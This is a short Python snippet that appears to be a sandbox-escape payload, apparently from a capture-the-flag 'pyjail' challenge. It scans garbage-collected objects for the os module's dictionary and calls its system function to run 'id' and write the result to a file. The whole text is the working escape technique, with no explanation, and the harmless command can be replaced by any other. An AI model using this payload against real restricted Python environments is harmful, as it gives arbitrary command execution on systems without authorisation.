import gc
for o in gc.get_objects():
    if type(o) is dict and "getoutput" not in o and "popen" in o and "system" in o and "__name__" in o:
        o["system"]("id>pf")
        break
